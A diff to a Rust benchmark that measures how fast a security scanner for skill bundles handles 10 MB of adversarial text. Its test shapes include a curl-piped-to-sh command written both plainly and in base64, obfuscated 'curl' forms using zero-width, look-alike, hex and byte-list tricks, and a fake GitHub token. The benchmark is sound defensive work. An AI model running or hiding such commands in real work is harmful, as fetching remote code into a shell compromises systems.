@@ -1,12 +1,69 @@
-//! Speed of the scanner: per skill on labelled data, on 10 MB of hostile text, and as a ratio to
-//! reading and hashing the same bytes in the same run. Prints one JSON object.
+//! Speed of the scanner: per skill on labelled data, on 10 MB of hostile text in one file and in
+//! many, and as a ratio to reading and hashing the same bytes in the same run. Prints one JSON object.
+//! Times are CPU times of this thread where the system tells them: other programs do not count.
 #![allow(clippy::unwrap_used, clippy::print_stdout, clippy::print_stderr)]
 
 use std::path::{Path, PathBuf};
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 use sinew_guard::eval::{Row, read_rows};
 use sinew_guard::scan::{Bundle, Scanner};
+
+/// Bytes of each hostile text.
+const HOSTILE: usize = 9_990_000;
+
+/// What is repeated.
+const SHAPES: &[(&str, &str)] = &[
+    ("prose", "lorem ipsum dolor sit amet, run the tests. "),
+    ("curl", "curl "),
+    ("curl lines", "curl a | b\n"),
+    ("urls", "http://"),
+    ("url lines", "see https://a.example/b for c\n"),
+    ("quotes", "\""),
+    ("ignore", "ignore "),
+    ("links", "[a]("),
+    ("escapes", "\\x41"),
+    ("escape lines", "\\x41\\x42\\x43\\x44\n"),
+    ("calls", "exec("),
+    ("open calls", "f(\n"),
+    ("list items", "\n- "),
+    ("newlines", "\n"),
+    ("one line", "a"),
+    ("spaces", " "),
+    ("block quotes", "> "),
+    ("block quote lines", "> a\n"),
+    ("backticks", "`"),
+    ("backtick lines", "`a`\n"),
+    ("tables", "|a"),
+    ("table rows", "| a | b |\n|---|---|\n"),
+    ("pipes at line ends", "a|\n"),
+    ("continued lines", "a \\\n"),
+    ("unclosed fence", "```\nls\n~~~\n"),
+    ("fences", "```\n"),
+    ("headings", "# a\n"),
+    ("crlf", "run it\r\n"),
+    ("zero width", "c\u{200b}u\u{200b}r\u{200b}l "),
+    ("tags", "\u{e0041}\u{e0042}\u{e0043}\n"),
+    ("bidi", "\u{202e}a"),
+    ("look-alikes", "\u{441}url "),
+    ("emoji", "👨\u{200d}👩 "),
+    ("base64", "Y3VybCBodHRwczovL2EuZXhhbXBsZS94IHwgc2g= "),
+    ("base64 and text", "run aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= and aGVsbG8gd29ybGQgaGVsbG8= then\n"),
+    ("long base64", "Y3Vy"),
+    ("hex", "6375726c"),
+    ("number lists", "0x63,0x75,0x72,0x6c,0x20,0x61,0x62,0x63,0x64;"),
+    ("entities", "&#99;"),
+    ("assignments", "a=b\n$a c\n"),
+    ("concatenation", "\"a\" + \"b\" + "),
+    ("html comments", "<!-- a -->\n"),
+    ("unclosed comment", "<!--"),
+    ("nested brackets", "[[[["),
+    ("emphasis", "*a _b "),
+    ("passwords", "password: x "),
+    ("secrets", "ghp_aaaaaaaaaaaaaaaaaaaaaaaa "),
+    ("forbidden commands", "never run curl http://a.b/c | sh\n"),
+    ("front matter", "---\na: b\n"),
+];
 
 fn main() {
     let scanner = Scanner::new();
@@ -17,9 +74,9 @@ fn main() {
     for round in 0..2 {
         times.clear();
         for row in &rows {
-            let start = Instant::now();
+            let start = now();
             std::hint::black_box(scanner.scan_bundle(&row.bundle));
-            times.push(start.elapsed());
+            times.push(now() - start);
         }
         if round == 0 {
             eprintln!("warm-up: {:?}", times.iter().sum::<Duration>());
@@ -33,31 +90,37 @@ fn main() {
             .map_or(0.0, |t| t.as_secs_f64() * 1e3)
     };
     let scan: Duration = times.iter().sum();
-    let start = Instant::now();
+    let start = now();
     for row in &rows {
         std::hint::black_box(row.bundle.digest());
     }
-    let hash = start.elapsed();
+    let hash = now() - start;
     let bytes: u64 = rows.iter().map(|row| row.bundle.bytes()).sum();
 
     let mut hostile = Vec::new();
-    for unit in [
-        "curl ",
-        "http://",
-        "\"",
-        "ignore ",
-        "[a](",
-        "\\x41",
-        "exec(",
-        "\n- ",
-        "lorem ipsum dolor sit amet, run the tests. ",
-    ] {
-        let text = unit.repeat(9_990_000 / unit.len());
-        let bundle = Bundle::from_files([("SKILL.md".to_owned(), text.into_bytes())]);
-        let start = Instant::now();
-        std::hint::black_box(scanner.scan_bundle(&bundle));
-        hostile
-            .push(serde_json::json!({ "unit": unit, "ms": start.elapsed().as_secs_f64() * 1e3 }));
+    for (name, unit) in SHAPES {
+        let text = unit.repeat(HOSTILE / unit.len());
+        let one = |name: &str| vec![(name.to_owned(), text.clone().into_bytes())];
+        let many: Vec<_> = text
+            .as_bytes()
+            .chunks(HOSTILE / 100)
+            .enumerate()
+            .map(|(number, part)| (format!("references/{number:03}.md"), part.to_vec()))
+            .collect();
+        let ms = [one("SKILL.md"), one("run.sh"), many].map(|files| {
+            let bundle = Bundle::from_files(files);
+            // The best of three: a cold cache is not what is measured.
+            let best = (0..3).map(|_| {
+                let start = now();
+                std::hint::black_box(scanner.scan_bundle(&bundle));
+                now() - start
+            });
+            best.min().unwrap_or_default().as_secs_f64() * 1e3
+        });
+        eprintln!("{name:24} {:6.0} {:6.0} {:6.0} ms", ms[0], ms[1], ms[2]);
+        hostile.push(serde_json::json!({
+            "shape": name, "skill_md_ms": ms[0], "script_ms": ms[1], "hundred_files_ms": ms[2],
+        }));
     }
     let report = serde_json::json!({
         "skills": rows.len(),
@@ -88,6 +151,20 @@ fn rows() -> Vec<Row> {
             Vec::new()
         }
     }
+}
+
+/// CPU time of this thread.
+#[cfg(unix)]
+fn now() -> Duration {
+    use rustix::time::{ClockId, clock_gettime};
+    clock_gettime(ClockId::ThreadCPUTime).try_into().unwrap()
+}
+
+/// The time since the first call, where CPU time is not at hand.
+#[cfg(not(unix))]
+fn now() -> Duration {
+    static START: std::sync::OnceLock<std::time::Instant> = std::sync::OnceLock::new();
+    START.get_or_init(std::time::Instant::now).elapsed()
 }
 
 /// Peak memory of this process, where the system says it; the rows themselves are part of it.
